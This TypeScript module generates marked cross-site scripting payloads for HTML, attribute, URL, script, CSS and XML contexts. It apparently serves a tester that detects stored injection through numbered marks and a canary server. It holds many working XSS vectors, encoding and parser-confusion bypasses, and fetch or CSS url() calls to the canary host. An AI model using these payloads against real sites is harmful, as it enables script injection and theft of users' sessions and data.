// Texts that would run as a script in some context, from a small grammar. `§` is the mark of a text, a number that says which
// payload it is and in which field it was stored; `¤` is the address of a server that must never be asked.

export const contexts = ['text', 'attribute', 'url', 'script', 'style', 'xml'] as const;
export type Context = (typeof contexts)[number];

export interface Payload {
  readonly context: Context;
  readonly template: string;
}

type Random = () => number;

/** `{name}` is replaced by one of the alternatives of that name. */
const parts: Readonly<Record<string, readonly string[]>> = {
  call: ['ran(§)', 'self.ran(§)', "window['ran'](§)", 'ran`§`', 'alert(§)', 'fetch(`¤/§`)', 'top[`ran`](§)'],
  /** Without spaces and quotes, for attributes. */
  bare: ['ran(§)', 'self.ran(§)', 'alert(§)', 'fetch(`¤/§`)', 'ran&#40;§&#41;'],
  close: ['', '', '', '</title>', '</textarea>', '</script>', '</style>', '-->', '</noscript>', '</template>', ']]>'],
  gap: [' ', '/', '\t', '\n', '\f', ' / '],
  quote: ['"', "'", '`', '">', "'>", ''],
  event: [
    'onfocus={bare} autofocus tabindex=0',
    'onpointerover={bare}',
    'onclick={bare}',
    'onload={bare}',
    'onerror={bare}',
  ],
  scheme: ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', ' javascript:'],
  coded: ['javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', 'jav&#x09;ascript:', 'javascript\\u003a'],
  end: ['//', '/*', '<!--', ';"', ";'", ''],
  svg: ['xmlns="http://www.w3.org/2000/svg"', "xmlns='http://www.w3.org/2000/svg'"],
};

/** The n-th payload of a context begins with its n-th form, so that every form is used. */
const forms: Readonly<Record<Context, readonly string[]>> = {
  text: [
    '{close}<script xss§>{call}</script>',
    '{close}<img xss§{gap}src=x{gap}onerror={bare}>',
    '{close}<svg xss§{gap}onload={bare}>',
    '{close}<iframe xss§ srcdoc="<script>parent.ran(§)</script>"></iframe>',
    '{close}<details xss§ open ontoggle={bare}>',
    '{close}<video xss§><source onerror={bare}></video>',
    '{close}<input xss§ autofocus onfocus={bare}>',
    '{close}<a xss§ href="{scheme}{call}">x</a>',
    '{close}<object xss§ data="{scheme}{call}"></object>',
    '{close}<form xss§><button formaction={scheme}{bare}>x</button></form>',
    '{close}<math><a xss§ xlink:href={scheme}{bare}>x</a></math>',
    '{close}<meta xss§ http-equiv=refresh content="0;url={scheme}{call}">',
    '<scr<b>ipt xss§>{call}</scr</b>ipt>',
    '<<script xss§>{call}//<</script>',
    '<img xss§ src=x onerror={bare} ',
    '<noscript><p title="</noscript><img xss§ src=x onerror={bare}>">',
    '<svg><style><img xss§ src=x onerror={bare}></style></svg>',
    '<math><mtext><table><mglyph><style><img xss§ src=x onerror={bare}>',
    '<base xss§ href="¤/§/"><script src=x></script>',
    '<template><img xss§ src=x onerror={bare}></template>',
  ],
  attribute: [
    '{quote}{gap}xss§{gap}{event} x={quote}',
    'x{gap}xss§=1{gap}{event}',
    '{quote}><img xss§ src=x onerror={bare}>',
    '{quote}{gap}xss§ style=animation-name:x onanimationstart={bare} x={quote}',
    '{quote}{gap}xss§ srcdoc=<script>parent.ran(§)</script> x={quote}',
    '{quote}{gap}xss§ href={scheme}{bare} x={quote}',
    '&quot; xss§ {event} x=&quot;',
    '&#34;&#62;<img xss§ src=x onerror={bare}>',
    '\\{quote} xss§ {event} ',
    '{quote}{gap}xss§ formaction={scheme}{bare} x={quote}',
  ],
  url: [
    '{scheme}{call}',
    '{coded}{call}',
    '{scheme}//x.example/%0a{call}',
    '{scheme}//x.example/%0d%0a{bare}//',
    'data:text/html,<script xss§>parent.ran(§)</script>',
    'data:text/html;charset=utf-8,%3Cscript%3Eparent.ran(§)%3C/script%3E',
    'data:image/svg+xml,<svg {svg} onload="{call}"/>',
    'vbscript:{call}',
    'https://x.example/{quote}{gap}xss§{gap}{event}',
    "https://x.example/#';{call}//",
    'feed:{scheme}{call}',
    'https:{scheme}{call}',
    '\\\\x.example\\{scheme}{call}',
    "https://x.example/?');{call}('",
  ],
  script: [
    '";{call}{end}',
    "';{call}{end}",
    '\\";{call}{end}',
    "\\';{call}{end}",
    '`;{call}{end}',
    '\u0024{{call}}',
    '</script><script xss§>{call}</script>',
    '\u2028{call}{end}',
    '\u2029{call}{end}',
    '*/{call}/*',
    '-{call}-',
    '"-{call}-"',
    "'-{call}-'",
    '<!--<script xss§>{call}</script>',
    '","x":"</script><img xss§ src=x onerror={bare}>',
    '\\u003c/script\\u003e\\u003cscript xss§\\u003e{call}',
    '{{constructor.constructor("{call}")()}}',
  ],
  style: [
    '}</style><script xss§>{call}</script>',
    ';background:url(¤/§)',
    'red;background:url("¤/§")',
    '}*{background:url(¤/§)}',
    '}@import "¤/§";',
    "@import url('¤/§');",
    ';width:expression({call});',
    '\\3c/style\\3e<img xss§ src=x onerror={bare}>',
    '{quote}{gap}xss§ style={quote}background:url(¤/§)',
    ';behavior:url(¤/§);',
    ';-moz-binding:url(¤/§#x);',
    '</style><style xss§>*{background:url(¤/§)}</style>',
    '*/}*{list-style:url(¤/§)}/*',
    ');background:url(¤/§',
  ],
  xml: [
    ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml" xss§="1">{call}</x:script>',
    '<svg {svg} xss§="1" onload="{call}"/>',
    '</title></item></channel></rss><svg {svg} xss§="1" onload="{call}"/>',
    '</title><svg {svg} xss§="1" onload="{call}"/><title>',
    '<?xml-stylesheet xss§ href="{scheme}{call}"?>',
    '<!DOCTYPE x [<!ENTITY xss§ "{call}">]>&xss§;',
    '<![CDATA[<script xss§>{call}</script>]]>',
    '--><x:script xmlns:x="http://www.w3.org/1999/xhtml" xss§="1">{call}</x:script><!--',
    '{quote} xss§="1" x={quote}',
    '&#60;script xss§&#62;{call}&#60;/script&#62;',
    '\r\nXSS§:1\r\n',
    '\nBEGIN:VALARM\nXSS§:1\nEND:VALARM\n',
    '\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:xss§\r\n',
    '\u2028XSS§:1',
    '\u0085XSS§:1',
    '\\nXSS§:1\\n',
  ],
};

const pick = <Item>(items: readonly Item[], random: Random): Item => items[Math.floor(random() * items.length)] as Item;

function expanded(form: string, random: Random): string {
  // A quote that opens also closes.
  const quote = pick(parts.quote ?? [], random);
  const once = form.replaceAll('{quote}', quote);
  const next = once.replace(/\{(\w+)\}/g, (whole, name: string) => (parts[name] ? pick(parts[name], random) : whole));
  return next === form ? next : expanded(next, random);
}

const escaped = (text: string): string =>
  text.replace(/[&<>"]/g, (letter) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[letter] ?? '');

/** Other spellings of the same markup. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  escaped,
  (text) => escaped(escaped(text)),
  (text) => text.replace(/[<>]/g, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
];

/** Names may not be much longer. */
const maxLength = 90;

/** `count` different payloads of each context. */
export function makePayloads(count: number, random: Random): readonly Payload[] {
  return contexts.flatMap((context) => {
    const made = new Set<string>();
    for (let at = 0; made.size < count; at++) {
      const all = forms[context];
      const text = expanded(all[at % all.length] as string, random);
      // The first use of a form is plain; only markup has other spellings.
      const spelled = at < all.length || context === 'url' ? text : pick(spellings, random)(text);
      made.add(spelled.length > maxLength ? text : spelled);
    }
    return [...made].map((template) => ({ context, template }));
  });
}

/** The text with its mark, for one field. */
export const written = ({ template }: Payload, mark: number, canary: string): string =>
  template.replaceAll('§', String(mark)).replaceAll('¤', canary);
